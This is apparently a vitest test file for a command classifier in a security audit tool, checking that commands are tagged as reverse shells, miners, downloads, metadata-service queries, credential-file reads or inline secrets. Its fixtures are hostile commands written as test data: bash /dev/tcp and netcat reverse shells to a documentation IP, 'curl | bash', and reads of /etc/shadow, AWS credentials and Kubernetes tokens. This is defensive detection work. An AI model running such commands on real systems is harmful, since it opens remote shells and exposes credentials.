import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commandClasses, programOf } from '../../../src/audit/facts/commands.ts';

const classesOf = (text: string): readonly string[] => commandClasses(['sh', '-c', text]) ?? [];

describe('the classes of a command', () => {
  it.each([
    ['reverse-shell', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
    ['reverse-shell', 'nc -e /bin/sh 203.0.113.9 443'],
    ['reverse-shell', 'ncat 203.0.113.9 443 --sh-exec /bin/sh'],
    ['reverse-shell', 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh'],
    ['reverse-shell', 'socat tcp:203.0.113.9:1 exec:/bin/sh,pty'],
    ['reverse-shell', `python3 -c 'import socket;s=socket.socket()'`],
    ['miner', './m -o stratum+tcp://pool.example.net:3333'],
    ['miner', '/tmp/XMRig'],
    ['miner', `${' '.repeat(5000)}./m --donate-level 1`],
    ['download', 'curl -sL https://example.com/install.sh -o /tmp/i'],
    ['download', 'wget http://203.0.113.9/x'],
    ['download', 'curl -s get.example.com | bash'],
    ['metadata-service', 'curl http://169.254.169.254/latest/meta-data/iam/'],
    ['metadata-service', 'curl http://2852039166/'],
    ['metadata-service', 'wget -qO- http://metadata.google.internal/computeMetadata/v1/'],
    ['credential-path', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'],
    ['credential-path', 'cat /proc/1/environ'],
    ['credential-path', 'cat /etc/shadow'],
    ['credential-path', 'ls /root/.ssh'],
    ['credential-path', 'cat /root/.aws/credentials'],
    ['file-copy', 'tar cf - /data'],
    ['file-copy', 'tar -xmf - -C /tmp'],
    ['shell', 'true'],
    ['inline-secret', 'mysql --password=hunter2'],
    ['inline-secret', 'curl -H "Authorization: Bearer abc"'],
    ['inline-secret', 'psql postgres://app:hunter2@db/app'],
    ['inline-secret', 'mysql -u root -phunter2 shop'],
  ])('%s: %s', (name, text) => {
    expect(classesOf(text)).toContain(name);
  });

  it.each([
    ['reverse-shell', 'echo > /dev/tcp/127.0.0.1/8080'],
    ['reverse-shell', 'nc -zv db 5432'],
    ['reverse-shell', 'rsync -e ssh /data backup:/data'],
    ['miner', 'helm test stratum --level 1'],
    ['download', 'curl -f http://localhost:8080/healthz'],
    ['download', 'curl http://10.0.0.7/data'],
    ['download', 'curl https://kubernetes.default.svc/api'],
    ['download', 'curl https://example.com/healthz'],
    ['download', 'echo https://example.com'],
    ['metadata-service', 'curl http://169.254.1.1/'],
    ['credential-path', 'cat /etc/hosts'],
    ['credential-path', 'cat /app/monkey.pemmican'],
    ['file-copy', 'tar cf /backup/a.tar /data'],
    ['file-copy', 'start - now'],
    ['inline-secret', 'mysql --password=$PASSWORD'],
    ['inline-secret', 'cat token'],
    ['inline-secret', 'mysql -u root -p shop'],
    ['inline-secret', 'ls -phunter2'],
    ['inline-secret', 'curl https://example.com:8443/a@b'],
  ])('not %s: %s', (name, text) => {
    expect(classesOf(text)).not.toContain(name);
  });

  it('knows a shell by its name, not by a file that is called so', () => {
    expect(commandClasses(['/bin/bash'])).toEqual(['shell']);
    expect(commandClasses(['busybox', 'ls'])).toEqual(['shell']);
    expect(commandClasses(['cat', 'install.sh', 'bash_history'])).toBeUndefined();
    expect(commandClasses([])).toBeUndefined();
  });

  it.each(['nc ', 'curl ', 'eyJ-', 'tar -', '://a:', '--password ', 'socat ', 'bash -i ', 'http://a'])(
    'reads a megabyte of %j',
    (text) => {
      expect(classesOf(text.repeat(1_000_000 / text.length))).toContain('shell');
    },
  );

  it('never throw', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' })), (words) => {
        for (const name of commandClasses(words) ?? []) expect(name).not.toBe('');
      }),
    );
  });
});

describe('the program of a command', () => {
  it.each([
    [['/usr/bin/env', 'bash'], 'env'],
    [['C:\\Windows\\cmd.exe'], 'cmd.exe'],
    [['ls'], 'ls'],
    [['/'], undefined],
    [[], undefined],
  ])('%j: %s', (words, program) => {
    expect(programOf(words)).toBe(program);
  });
});
